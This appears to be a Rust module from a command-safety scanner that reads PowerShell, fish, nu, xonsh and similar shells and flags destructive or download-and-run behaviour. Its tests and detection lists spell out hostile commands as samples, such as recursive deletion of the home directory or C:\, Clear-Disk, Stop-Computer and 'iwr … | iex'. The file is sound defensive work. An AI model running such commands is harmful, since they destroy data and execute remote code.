//! Shells whose language is not bash's: PowerShell (`pwsh`, `powershell`)
//! and the shells read command by command (`fish`, `csh`, `tcsh`, `nu`,
//! `xonsh`, `elvish`).
//!
//! PowerShell's code (`-Command`, `-EncodedCommand` decoded from base64 of
//! UTF-16LE, a `-File` written earlier in the command, or stdin) is read
//! statement by statement: its destructive cmdlets are judged as the bash
//! command that does the same (`Remove-Item -Recurse -Force ~` as `rm -r -f
//! ~`, `Set-Content ~/.bashrc` as a write of it), `Stop-Computer` and kin
//! as a power-off, `Format-Volume`/`Clear-Disk` as a disk format, a download
//! or a decoded text handed to `Invoke-Expression` as remote or hidden code,
//! and a native program (`rm -rf ~`, `reboot`) as bash.
//!
//! The other shells' code is judged as bash where it parses as bash, which
//! covers the simple commands these languages share with it; where a line
//! does not, each line and each `;`-separated part that does parse is
//! judged, and the rest (fish's `(cmd)` substitution, nu's pipelines of
//! structured data, xonsh's Python) is not read as shell. xonsh's Python is
//! read as Python one-line programs are ([`crate::checks::inline`]).

use crate::arg::Arg;
use crate::flow::{Flow, Text};
use crate::paths::Write;
use crate::rule;
use crate::scanner::Scanner;

/// PowerShell under its names.
pub(super) const POWERSHELLS: &[&str] = &[
    "pwsh",
    "powershell",
    "pwsh-preview",
    "pwsh.exe",
    "powershell.exe",
];

/// Shells whose code is judged command by command where it is not bash.
pub(super) const OTHER_SHELLS: &[&str] = &["fish", "csh", "tcsh", "nu", "xonsh", "elvish"];

/// Where PowerShell takes its code from.
#[derive(Debug, PartialEq, Eq)]
enum Input {
    Code(Arg),
    /// `-EncodedCommand`: the argument, not yet decoded.
    Encoded(Arg),
    File(Arg),
    Stdin,
}

/// PowerShell's parameters that take a value, as prefixes of their names
/// (PowerShell accepts any prefix that names one parameter).
const VALUED: &[&str] = &[
    "executionpolicy",
    "ep",
    "ex",
    "windowstyle",
    "workingdirectory",
    "wd",
    "inputformat",
    "inp",
    "if",
    "outputformat",
    "of",
    "configurationname",
    "configurationfile",
    "settingsfile",
    "custompipename",
    "version",
];

/// What `pwsh ARGS` runs. Its first operand is a script for `pwsh` and
/// code for Windows PowerShell (`powershell`); `-Command` takes the rest of
/// the line as code.
fn input(name: &str, args: &[Arg]) -> Input {
    let mut i = 0;
    while let Some(arg) = args.get(i) {
        i += 1;
        let text = arg.text.as_str();
        let Some(key) = text
            .strip_prefix('-')
            .or_else(|| text.strip_prefix('/'))
            .filter(|k| arg.exact && !k.is_empty())
        else {
            let rest = args.get(i - 1..).unwrap_or_default();
            return if name == "powershell" {
                Input::Code(joined(rest))
            } else {
                Input::File(arg.clone())
            };
        };
        let key = key.trim_start_matches('-').to_ascii_lowercase();
        let names = |full: &str, min: usize| key.len() >= min && full.starts_with(&key);
        if key == "c" || names("command", 3) || key == "cwa" || names("commandwithargs", 8) {
            let rest = args.get(i..).unwrap_or_default();
            return match rest {
                [] => Input::Stdin,
                [only] if only.is("-") => Input::Stdin,
                _ => Input::Code(joined(rest)),
            };
        }
        if matches!(key.as_str(), "e" | "ec") || names("encodedcommand", 2) {
            return match args.get(i) {
                Some(value) => Input::Encoded(value.clone()),
                None => Input::Stdin,
            };
        }
        if key == "f" || names("file", 2) {
            return match args.get(i) {
                Some(file) if !file.is("-") => Input::File(file.clone()),
                _ => Input::Stdin,
            };
        }
        if VALUED
            .iter()
            .any(|v| key == *v || (key.len() >= 3 && v.starts_with(&key)))
        {
            i += 1;
        }
    }
    Input::Stdin
}

/// Words joined with spaces into one, known when each of them is.
fn joined(words: &[Arg]) -> Arg {
    let taint = words
        .iter()
        .fold(crate::arg::Taint::default(), |t, w| t.union(w.taint));
    Arg {
        text: words
            .iter()
            .map(|w| w.text.as_str())
            .collect::<Vec<_>>()
            .join(" ")
            .into(),
        exact: words.iter().all(|w| w.exact),
        taint,
        ..Arg::default()
    }
}

/// Most bytes of decoded `-EncodedCommand` text read.
const MAX_DECODED: usize = 1 << 20;

/// `-EncodedCommand`'s text: base64 of UTF-16LE.
fn decode_utf16_base64(text: &str) -> Option<String> {
    let bytes = base64(text)?;
    if bytes.len() % 2 != 0 || bytes.len() > MAX_DECODED {
        return None;
    }
    let units: Vec<u16> = bytes
        .chunks_exact(2)
        .map(|pair| match pair {
            [lo, hi] => u16::from_le_bytes([*lo, *hi]),
            _ => 0,
        })
        .collect();
    String::from_utf16(&units).ok()
}

/// Standard base64 (padding optional, blanks ignored).
fn base64(text: &str) -> Option<Vec<u8>> {
    let mut out = Vec::with_capacity(text.len() / 4 * 3);
    let mut bits = 0u32;
    let mut count = 0;
    for c in text
        .bytes()
        .filter(|c| !c.is_ascii_whitespace() && *c != b'=')
    {
        let value = match c {
            b'A'..=b'Z' => c - b'A',
            b'a'..=b'z' => c - b'a' + 26,
            b'0'..=b'9' => c - b'0' + 52,
            b'+' | b'-' => 62,
            b'/' | b'_' => 63,
            _ => return None,
        };
        bits = (bits << 6) | u32::from(value);
        count += 6;
        if count >= 8 {
            count -= 8;
            out.push(((bits >> count) & 0xff) as u8);
        }
    }
    Some(out)
}

/// Something a PowerShell statement does that a rule is about.
#[derive(Debug, PartialEq, Eq)]
enum Deed {
    /// The same as this bash command.
    Bash(String),
    /// Writes this path (in bash's spelling).
    Write(String, Write),
    /// Shuts the machine down or restarts it.
    Power(String),
    /// Formats or wipes a disk.
    Disk(String),
    /// Runs downloaded text as code.
    RunsDownload,
    /// Runs decoded text as code.
    RunsDecoded,
}

/// Most statements read from one PowerShell text.
const MAX_STATEMENTS: usize = 256;

/// What the PowerShell code `text` does, statement by statement.
fn deeds(text: &str) -> Vec<Deed> {
    let mut found = Vec::new();
    let mut vars: Vec<(String, String)> = Vec::new();
    for statement in split_outside_quotes(text, &[";", "\n", "&&", "||", "{", "}"])
        .into_iter()
        .take(MAX_STATEMENTS)
    {
        let statement = substitute(&statement, &vars);
        // `$d = $HOME`, `$p = 'C:\'`: a name for one value, read where it
        // is used later.
        if let Some((name, value)) = assignment(&statement) {
            vars.retain(|(n, _)| *n != name);
            if vars.len() < MAX_STATEMENTS {
                vars.push((name, value));
            }
            continue;
        }
        let lower = statement.to_ascii_lowercase();
        let runs_text = has_word(&lower, "iex")
            || has_word(&lower, "invoke-expression")
            || lower.contains("[scriptblock]::create")
            || lower.contains(".invokescript(");
        let stages = split_outside_quotes(&statement, &["|"]);
        let piped_to_shell = stages.iter().skip(1).any(|stage| {
            let first = words(stage).into_iter().next().unwrap_or_default();
            let first = first.to_ascii_lowercase();
            matches!(
                base(&first),
                "pwsh" | "powershell" | "sh" | "bash" | "iex" | "invoke-expression"
            )
        });
        if runs_text || piped_to_shell {
            if DOWNLOADS.iter().any(|d| has_word(&lower, d)) {
                found.push(Deed::RunsDownload);
            } else if lower.contains("frombase64string") {
                found.push(Deed::RunsDecoded);
            }
        }
        let mut listed: Option<String> = None;
        for stage in &stages {
            cmdlet(stage, listed.as_deref(), &mut found);
            listed = listing(stage);
        }
        // .NET's recursive delete: `[IO.Directory]::Delete($HOME, $true)`.
        if let Some(at) = lower.find("directory]::delete(") {
            let args = statement
                .get(at + "directory]::delete(".len()..)
                .unwrap_or_default();
            if let Some((path, flag)) = args.split_once(',')
                && flag.trim_start().to_ascii_lowercase().starts_with("$true")
            {
                found.push(Deed::Bash(format!(
                    "rm -r -f -- {}",
                    bash_path(path.trim())
                )));
            }
        }
    }
    found
}

/// `$name = VALUE` where VALUE is one word: the name (lower case, with its
/// `$`) and the word.
fn assignment(statement: &str) -> Option<(String, String)> {
    let (name, value) = statement.trim().split_once('=')?;
    let name = name.trim();
    let valid = name.len() > 1
        && name.starts_with('$')
        && name
            .chars()
            .skip(1)
            .all(|c| c.is_ascii_alphanumeric() || c == '_');
    let text = value.trim();
    let value = words(text);
    match value.as_slice() {
        _ if !valid || text.starts_with('=') => None,
        [one] => Some((name.to_ascii_lowercase(), one.clone())),
        // `$c = iwr https://x` then `iex $c`: the expression, kept whole.
        [_, ..] => Some((name.to_ascii_lowercase(), format!("({text})"))),
        [] => None,
    }
}

/// `statement` with each variable of `vars` replaced by its value where it
/// stands as a whole word (`$d`, not `$dir`).
fn substitute(statement: &str, vars: &[(String, String)]) -> String {
    let mut out = statement.to_owned();
    for (name, value) in vars {
        let lower = out.to_ascii_lowercase();
        let mut result = String::with_capacity(out.len());
        let mut last = 0;
        for (at, _) in lower.match_indices(name.as_str()) {
            let after = lower.get(at + name.len()..).and_then(|a| a.chars().next());
            if at < last || after.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_') {
                continue;
            }
            result.push_str(out.get(last..at).unwrap_or_default());
            result.push_str(value);
            last = at + name.len();
        }
        result.push_str(out.get(last..).unwrap_or_default());
        out = result;
    }
    out
}

/// Downloaders as PowerShell spells them.
const DOWNLOADS: &[&str] = &[
    "iwr",
    "irm",
    "invoke-webrequest",
    "invoke-restmethod",
    "downloadstring",
    "downloaddata",
    "net.webclient",
    "curl",
    "wget",
    "start-bitstransfer",
    "httpclient",
];

/// Whether `word` occurs in `text` with no name character either side.
fn has_word(text: &str, word: &str) -> bool {
    let name = |c: char| c.is_ascii_alphanumeric() || c == '-' || c == '_';
    text.match_indices(word).any(|(at, _)| {
        let before = text.get(..at).and_then(|b| b.chars().next_back());
        let after = text.get(at + word.len()..).and_then(|a| a.chars().next());
        !before.is_some_and(name) && !after.is_some_and(name)
    })
}

/// A command name without its directory or `.exe`.
fn base(name: &str) -> &str {
    let name = name.rsplit(['/', '\\']).next().unwrap_or(name);
    name.strip_suffix(".exe").unwrap_or(name)
}

/// One pipeline stage: a cmdlet the rules are about, or a native program.
fn cmdlet(stage: &str, listed: Option<&str>, found: &mut Vec<Deed>) {
    let mut words = words(stage);
    // The call operators `& cmd` and `. cmd`.
    if words.first().is_some_and(|w| w == "&" || w == ".") {
        words.remove(0);
    }
    let Some((first, args)) = words.split_first() else {
        return;
    };
    let name = first.to_ascii_lowercase();
    for (i, word) in args.iter().enumerate() {
        // `cmd > file`, `cmd >> file`, `>file`.
        let (append, rest) = match word.strip_prefix(">>") {
            Some(rest) => (true, rest),
            None => match word.strip_prefix('>') {
                Some(rest) => (false, rest),
                None => continue,
            },
        };
        let target = if rest.is_empty() {
            args.get(i + 1).cloned()
        } else {
            Some(rest.to_owned())
        };
        if let Some(target) = target {
            let write = if append {
                Write::Append
            } else {
                Write::Replace
            };
            found.push(Deed::Write(plain_path(&target), write));
        }
    }
    match base(&name) {
        "remove-item" | "rm" | "ri" | "del" | "erase" | "rd" | "rmdir" => {
            let p = parameters(args, &["path", "literalpath", "lp", "pspath"]);
            let recurse = p.switch("recurse", 1);
            let force = p.switch("force", 2);
            if p.switch("whatif", 2) {
                return;
            }
            let mut paths = p.paths();
            // `gci ~ | Remove-Item -Recurse -Force`: what the stage before
            // lists is deleted.
            if paths.is_empty()
                && let Some(listed) = listed
            {
                paths.push(format!("{}/*", listed.trim_end_matches(['/', '\\'])));
            }
            for path in paths {
                let mut bash = String::from("rm");
                if recurse {
                    bash.push_str(" -r");
                }
                if force {
                    bash.push_str(" -f");
                }
                found.push(Deed::Bash(format!("{bash} -- {}", bash_path(&path))));
            }
            // On Linux `rm` and `rmdir` are the native programs.
            if matches!(name.as_str(), "rm" | "rmdir") {
                found.push(Deed::Bash(stage.trim().to_owned()));
            }
        }
        "set-content" | "sc" | "add-content" | "ac" | "out-file" | "tee-object" | "tee" => {
            let p = parameters(args, &["path", "literalpath", "filepath", "lp", "pspath"]);
            let append = matches!(base(&name), "add-content" | "ac") || p.switch("append", 1);
            let write = if append {
                Write::Append
            } else {
                Write::Replace
            };
            // Set-Content's second operand is the value.
            let paths = p.paths();
            for path in paths.into_iter().take(1) {
                found.push(Deed::Write(plain_path(&path), write));
            }
        }
        "stop-computer" | "restart-computer" => {
            found.push(Deed::Power(first.clone()));
        }
        "format-volume" | "clear-disk" | "format-disk" | "remove-partition" | "initialize-disk" => {
            found.push(Deed::Disk(first.clone()));
        }
        // Cmdlets (`Verb-Noun`), expressions and values do nothing of
        // the above; anything else is a native program, run as bash runs it.
        _ if name.contains('-')
            || ALIASES.contains(&base(&name))
            || stage
                .trim_start()
                .starts_with(['$', '[', '(', '@', '"', '\'', '%', '?', '#'])
            || name.chars().next().is_some_and(|c| c.is_ascii_digit()) => {}
        _ => found.push(Deed::Bash(stage.trim().to_owned())),
    }
}

/// The directory a listing stage lists (`Get-ChildItem ~`, `gci -Path /`,
/// `ls ~`), for a `Remove-Item` it pipes into.
fn listing(stage: &str) -> Option<String> {
    let words = words(stage);
    let (first, args) = words.split_first()?;
    let name = first.to_ascii_lowercase();
    if !matches!(
        base(&name),
        "get-childitem" | "gci" | "ls" | "dir" | "get-item" | "gi"
    ) {
        return None;
    }
    let p = parameters(args, &["path", "literalpath", "lp", "pspath"]);
    Some(p.paths().into_iter().next().unwrap_or_else(|| ".".into()))
}

/// PowerShell's own aliases of cmdlets that are no program on Linux.
const ALIASES: &[&str] = &[
    "iwr", "irm", "iex", "gci", "gc", "gi", "gp", "sl", "ni", "md", "cpi", "mi", "rni", "ren",
    "saps", "spps", "write", "select", "where", "foreach", "sort", "measure", "ft", "fl", "gm",
];

/// A cmdlet's arguments: the values of its named path parameters and its
/// operands, and its switches.
struct Parameters {
    named: Vec<String>,
    operands: Vec<String>,
    switches: Vec<String>,
}

impl Parameters {
    /// Whether the switch `full` is given (by a prefix of at least `min`
    /// letters; `-Force:$false` turns it off).
    fn switch(&self, full: &str, min: usize) -> bool {
        self.switches.iter().any(|s| {
            let (key, value) = s.split_once(':').unwrap_or((s, "$true"));
            key.len() >= min && full.starts_with(key) && value != "$false"
        })
    }

    /// The paths it is given: `-Path P`, else its first operand; each may
    /// be a comma-separated list.
    fn paths(&self) -> Vec<String> {
        let given = if self.named.is_empty() {
            self.operands.first().cloned().into_iter().collect()
        } else {
            self.named.clone()
        };
        given
            .iter()
            .flat_map(|p| p.split(','))
            .map(str::trim)
            .filter(|p| !p.is_empty())
            .map(str::to_owned)
            .collect()
    }
}

/// Reads `args` with `path_names` as the parameters that take a path.
/// Any other `-Name` is a switch, except the few known to take a value.
fn parameters(args: &[String], path_names: &[&str]) -> Parameters {
    const TAKE_VALUE: &[&str] = &[
        "filter",
        "include",
        "exclude",
        "credential",
        "stream",
        "value",
        "encoding",
        "inputobject",
        "width",
        "variable",
        // The common parameters that take a value.
        "erroraction",
        "ea",
        "warningaction",
        "wa",
        "informationaction",
        "infa",
        "errorvariable",
        "ev",
        "outvariable",
        "ov",
        "outbuffer",
        "ob",
        "pipelinevariable",
        "pv",
    ];
    let mut p = Parameters {
        named: Vec::new(),
        operands: Vec::new(),
        switches: Vec::new(),
    };
    let mut words = args.iter();
    while let Some(word) = words.next() {
        if word.starts_with('>') {
            words.next();
            continue;
        }
        let Some(key) = word
            .strip_prefix('-')
            .filter(|k| k.chars().next().is_some_and(|c| c.is_ascii_alphabetic()))
        else {
            p.operands.push(word.clone());
            continue;
        };
        let key = key.to_ascii_lowercase();
        let prefix_of = |full: &&str| key.len() >= 2 && full.starts_with(key.as_str());
        if path_names.iter().any(|n| *n == key || prefix_of(n)) && !key.contains(':') {
            p.named.extend(words.next().cloned());
        } else if TAKE_VALUE.iter().any(|n| *n == key || prefix_of(n)) {
            words.next();
        } else {
            p.switches.push(key);
        }
    }
    p
}

/// A PowerShell path as the judge spells paths: the home directory's
/// names read as `~`, a Windows drive as `/`, backslashes as slashes.
fn plain_path(path: &str) -> String {
    let path = path.trim_matches(['"', '\'']).replace('\\', "/");
    let lower = path.to_ascii_lowercase();
    for home in [
        "~",
        "$home",
        "${home}",
        "$env:home",
        "${env:home}",
        "$env:userprofile",
        "${env:userprofile}",
    ] {
        if let Some(rest) = lower.strip_prefix(home)
            && (rest.is_empty() || rest.starts_with('/'))
        {
            return format!("~{}", path.get(home.len()..).unwrap_or_default());
        }
    }
    for drive in ["$env:systemdrive", "${env:systemdrive}"] {
        if lower.starts_with(drive) {
            return root(path.get(drive.len()..).unwrap_or_default());
        }
    }
    let bytes = path.as_bytes();
    if bytes.first().is_some_and(u8::is_ascii_alphabetic) && bytes.get(1) == Some(&b':') {
        return root(path.get(2..).unwrap_or_default());
    }
    path
}

/// A path on a Windows drive, from the drive's root.
fn root(tail: &str) -> String {
    format!("/{}", tail.trim_start_matches('/'))
}

/// A PowerShell path as one bash word.
fn bash_path(path: &str) -> String {
    let path = plain_path(path);
    match path.strip_prefix('~') {
        Some("") => "~".into(),
        Some(rest) => format!("~{}", quote(rest)),
        None => quote(&path),
    }
}

/// `text` single-quoted for bash when it needs to be.
fn quote(text: &str) -> String {
    if !text.is_empty()
        && text
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "/._-+=,:@%*?".contains(c))
    {
        text.to_owned()
    } else {
        format!("'{}'", text.replace('\'', r"'\''"))
    }
}

/// `text` split at each of `separators` that is outside quotes.
fn split_outside_quotes(text: &str, separators: &[&str]) -> Vec<String> {
    let mut parts = Vec::new();
    let mut part = String::new();
    let mut quote: Option<char> = None;
    let mut rest = text;
    while let Some(c) = rest.chars().next() {
        if quote.is_none()
            && let Some(sep) = separators.iter().find(|s| rest.starts_with(**s))
        {
            parts.push(std::mem::take(&mut part));
            rest = rest.get(sep.len()..).unwrap_or_default();
            continue;
        }
        match (quote, c) {
            (Some(q), c) if c == q => quote = None,
            (None, '\'' | '"') => quote = Some(c),
            _ => {}
        }
        part.push(c);
        rest = rest.get(c.len_utf8()..).unwrap_or_default();
    }
    parts.push(part);
    parts.retain(|p| !p.trim().is_empty());
    parts
}

/// A PowerShell statement's words, quotes taken off.
fn words(text: &str) -> Vec<String> {
    crate::call::quoted_words(text, None, usize::MAX)
}

/// nu's code with the caret of an external call taken off (`^rm -rf ~`
/// runs the program `rm`).
fn external_calls(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut at_command = true;
    for c in text.chars() {
        if c == '^' && at_command {
            continue;
        }
        if !c.is_whitespace() {
            at_command = matches!(c, ';' | '|' | '(' | '{');
        } else if c == '\n' {
            at_command = true;
        }
        out.push(c);
    }
    out
}

/// The parts of another shell's code read as bash: the whole text when
/// it parses, else each line, else each `;`-separated part of a line,
/// that does (fish's `end`, nu's `^cmd`: the caret taken off).
fn bash_parts(text: &str) -> Vec<String> {
    if crate::parse::parse(text).is_ok() {
        return vec![text.to_owned()];
    }
    let mut parts = Vec::new();
    for line in text.lines() {
        let line = line.trim();
        if line.is_empty() {
            continue;
        }
        if crate::parse::parse(line).is_ok() {
            parts.push(line.to_owned());
            continue;
        }
        for piece in split_outside_quotes(line, &[";"]) {
            let piece = piece.trim().trim_start_matches('^');
            if crate::parse::parse(piece).is_ok() {
                parts.push(piece.to_owned());
            }
        }
        if parts.len() >= MAX_STATEMENTS {
            break;
        }
    }
    parts
}

impl Scanner<'_> {
    /// `pwsh`/`powershell`: its code read as [`deeds`].
    pub(super) fn powershell(
        &mut self,
        name: &str,
        argv: &[Arg],
        args: &[Arg],
        stdin: &Flow,
    ) -> Flow {
        let via = format!("{name} (PowerShell)");
        let code = match input(name, args) {
            Input::Code(code) => code,
            Input::Encoded(value) => {
                let decoded = value
                    .exact_text()
                    .and_then(decode_utf16_base64)
                    .filter(|_| !value.taint.is_hostile());
                match decoded {
                    Some(text) => Arg::derived(&text),
                    None => {
                        self.report(
                            &rule::OPAQUE,
                            argv,
                            "-EncodedCommand text that is not known base64 of UTF-16".into(),
                        );
                        return Flow::unknown();
                    }
                }
            }
            Input::File(file) => {
                if !self.run_download(&file, argv, "runs it as a script") {
                    let written = file.exact_text().and_then(|path| {
                        let path = path.trim_start_matches("./");
                        self.written.iter().rev().find(|(p, _)| p == path).cloned()
                    });
                    match written {
                        Some((_, Some(text))) => self.powershell_text(&text, &via, argv),
                        Some((path, None)) => self.report(
                            &rule::OPAQUE,
                            argv,
                            format!("{path} was written earlier in the command with text only known at run time"),
                        ),
                        None => {}
                    }
                }
                return Flow::unknown();
            }
            Input::Stdin => {
                if self.refuse_hostile(stdin.taint, argv, "runs its input as PowerShell code") {
                    return Flow::unknown();
                }
                match &stdin.text {
                    Text::Literal(text) => Arg::derived(text),
                    _ => return Flow::unknown(),
                }
            }
        };
        if self.refuse_hostile(code.taint, argv, "runs it as PowerShell code") {
            return Flow::unknown();
        }
        if !code.exact && code.known_at() >= code.text.len() && code.text.starts_with('$') {
            self.report(
                &rule::OPAQUE,
                argv,
                "PowerShell code only known at run time".into(),
            );
            return Flow::unknown();
        }
        self.powershell_text(&code.text, &via, argv);
        Flow::unknown()
    }

    fn powershell_text(&mut self, text: &str, via: &str, argv: &[Arg]) {
        self.inside(via, |s| {
            for deed in deeds(text) {
                match deed {
                    Deed::Bash(code) => {
                        for part in bash_parts(&code) {
                            s.nested(&part, "PowerShell", &Flow::inherited());
                        }
                    }
                    Deed::Write(path, write) => {
                        s.write_target(argv, &Arg::literal(&path), write);
                    }
                    Deed::Power(cmdlet) => s.report(
                        &rule::POWER,
                        argv,
                        format!("PowerShell's {cmdlet} shuts the machine down or restarts it"),
                    ),
                    Deed::Disk(cmdlet) => s.report(
                        &rule::DISK_FORMAT,
                        argv,
                        format!("PowerShell's {cmdlet} formats or wipes a disk"),
                    ),
                    Deed::RunsDownload => s.report(
                        &rule::DOWNLOAD_TO_SHELL,
                        argv,
                        "PowerShell runs downloaded text as code (Invoke-Expression)".into(),
                    ),
                    Deed::RunsDecoded => s.report(
                        &rule::DECODE_TO_SHELL,
                        argv,
                        "PowerShell runs decoded text as code (Invoke-Expression)".into(),
                    ),
                }
            }
        });
    }

    /// fish, csh, tcsh, nu, xonsh, elvish: `-c CODE` (`--command`,
    /// `--commands`, `-e`), a script, or code on stdin, read by
    /// [`bash_parts`].
    pub(super) fn other_shell(
        &mut self,
        name: &str,
        argv: &[Arg],
        args: &[Arg],
        stdin: &Flow,
    ) -> Flow {
        let mut code = None;
        let mut script = None;
        let mut words = args.iter();
        while let Some(arg) = words.next() {
            let text = arg.text.as_str();
            if let Some(value) = ["--command=", "--commands=", "--init-command=", "--execute="]
                .iter()
                .find_map(|o| text.strip_prefix(o))
            {
                code = Some(Arg {
                    text: value.into(),
                    ..arg.clone()
                });
                break;
            }
            let short_c = text.starts_with('-')
                && !text.starts_with("--")
                && text.len() > 1
                && text.chars().skip(1).all(|c| c.is_ascii_alphabetic())
                && text.contains(['c', 'C']);
            if arg.exact
                && (short_c
                    || matches!(
                        text,
                        "--command" | "--commands" | "--init-command" | "-e" | "--execute"
                    ))
            {
                code = words.next().cloned();
                break;
            }
            if !text.starts_with('-') {
                script = Some(arg.clone());
                break;
            }
        }
        let via = format!("{name} -c");
        if let Some(code) = code {
            if self.refuse_hostile(code.taint, argv, "runs it as shell code") {
                return Flow::unknown();
            }
            self.other_shell_text(name, &code.text, &via, argv);
            return Flow::unknown();
        }
        if let Some(script) = script {
            if !self.run_download(&script, argv, "runs it as a script") {
                let path = script
                    .exact_text()
                    .map(|p| p.trim_start_matches("./").to_owned());
                let written = path
                    .and_then(|path| self.written.iter().rev().find(|(p, _)| *p == path).cloned());
                if let Some((_, Some(text))) = written {
                    self.other_shell_text(name, &text, name, argv);
                }
            }
            return Flow::unknown();
        }
        if self.refuse_hostile(stdin.taint, argv, "runs its input as shell code") {
            return Flow::unknown();
        }
        match &stdin.text {
            Text::Literal(text) => {
                let text = text.clone();
                self.other_shell_text(name, &text, &format!("input of {name}"), argv);
            }
            Text::Unknown => self.report(
                &rule::OPAQUE,
                argv,
                "a shell reads code that is only known at run time".into(),
            ),
            Text::Inherited | Text::File => {}
        }
        Flow::unknown()
    }

    fn other_shell_text(&mut self, name: &str, text: &str, via: &str, argv: &[Arg]) {
        let text = if base(name) == "nu" {
            external_calls(text)
        } else {
            text.to_owned()
        };
        let text = text.as_str();
        for part in bash_parts(text) {
            self.nested(&part, via, &Flow::inherited());
        }
        // xonsh is Python with shell commands mixed in.
        if base(name) == "xonsh" {
            self.inside(via, |s| s.program_text("python", via, text, argv));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn arg_list(line: &str) -> Vec<Arg> {
        line.split_whitespace().map(Arg::literal).collect()
    }

    #[test]
    fn reads_powershell_options() {
        let code = |name, line: &str| match input(name, &arg_list(line)) {
            Input::Code(a) => a.text.into_string(),
            other => format!("{other:?}"),
        };
        assert_eq!(code("pwsh", "-NoProfile -c Get-Item x"), "Get-Item x");
        assert_eq!(code("pwsh", "-ExecutionPolicy Bypass -Command ls"), "ls");
        assert_eq!(code("pwsh", "-com ls"), "ls");
        assert_eq!(code("powershell", "Remove-Item x"), "Remove-Item x");
        assert!(matches!(
            input("pwsh", &arg_list("-enc AAAA")),
            Input::Encoded(_)
        ));
        assert!(matches!(
            input("pwsh", &arg_list("-e AAAA")),
            Input::Encoded(_)
        ));
        assert!(matches!(
            input("pwsh", &arg_list("-ep Bypass -File x.ps1")),
            Input::File(_)
        ));
        assert!(matches!(
            input("pwsh", &arg_list("build.ps1")),
            Input::File(_)
        ));
        assert!(matches!(
            input("pwsh", &arg_list("-Command -")),
            Input::Stdin
        ));
    }

    #[test]
    fn decodes_encoded_commands() {
        // "Get-Date" as UTF-16LE, in base64.
        assert_eq!(
            decode_utf16_base64("RwBlAHQALQBEAGEAdABlAA==").as_deref(),
            Some("Get-Date")
        );
        assert_eq!(decode_utf16_base64("not base64!"), None);
    }

    #[test]
    fn reads_destructive_cmdlets() {
        assert_eq!(
            deeds("Remove-Item -Recurse -Force ~"),
            [Deed::Bash("rm -r -f -- ~".into())]
        );
        assert_eq!(
            deeds("ri $env:USERPROFILE -r -fo"),
            [Deed::Bash("rm -r -f -- ~".into())]
        );
        assert_eq!(
            deeds("del -Path C:\\ -Recurse"),
            [Deed::Bash("rm -r -- /".into())]
        );
        assert_eq!(
            deeds("Remove-Item -LiteralPath 'a b.txt'"),
            [Deed::Bash("rm -- 'a b.txt'".into())]
        );
        assert_eq!(
            deeds("Stop-Computer -Force"),
            [Deed::Power("Stop-Computer".into())]
        );
        assert_eq!(
            deeds("Clear-Disk -Number 0"),
            [Deed::Disk("Clear-Disk".into())]
        );
        assert_eq!(deeds("iwr https://x/a.ps1 | iex"), [Deed::RunsDownload]);
        assert_eq!(
            deeds("Add-Content -Path ~/.bashrc -Value x"),
            [Deed::Write("~/.bashrc".into(), Write::Append)]
        );
        assert_eq!(
            deeds("'x' | Out-File $HOME/.zshrc"),
            [Deed::Write("~/.zshrc".into(), Write::Replace)]
        );
        assert_eq!(deeds("reboot"), [Deed::Bash("reboot".into())]);
        assert!(deeds("Get-ChildItem; Write-Host 'rm -rf ~'").is_empty());
        assert!(deeds("Remove-Item ~ -Recurse -Force -WhatIf").is_empty());
        assert_eq!(
            deeds("$c = iwr https://x/a.ps1; iex $c"),
            [Deed::RunsDownload]
        );
        assert_eq!(
            deeds("$d = $HOME; Remove-Item $d -Recurse -Force"),
            [Deed::Bash("rm -r -f -- ~".into())]
        );
        assert_eq!(
            deeds("$dir = 'C:\\'; $d = 'x'; ri $dir -r"),
            [Deed::Bash("rm -r -- /".into())]
        );
        assert_eq!(
            deeds("Remove-Item -r -fo -ea 0 ~"),
            [Deed::Bash("rm -r -f -- ~".into())]
        );
        assert_eq!(
            deeds("gci ~ | Remove-Item -Recurse -Force"),
            [Deed::Bash("rm -r -f -- ~/*".into())]
        );
        assert_eq!(
            deeds("[IO.Directory]::Delete($HOME, $true)"),
            [Deed::Bash("rm -r -f -- ~".into())]
        );
    }

    #[test]
    fn reads_other_shells_where_they_parse_as_bash() {
        assert_eq!(bash_parts("rm -rf ~"), ["rm -rf ~"]);
        assert_eq!(
            bash_parts("for f in (ls); rm -rf ~; end"),
            ["rm -rf ~", "end"]
        );
        assert_eq!(
            bash_parts("ls | where size > 1kb"),
            ["ls | where size > 1kb"]
        );
        assert!(bash_parts("print((1)").is_empty());
        assert_eq!(
            external_calls("^rm -rf ~; ls | ^sh -c x"),
            "rm -rf ~; ls | sh -c x"
        );
        assert_eq!(external_calls("echo a^b"), "echo a^b");
    }
}
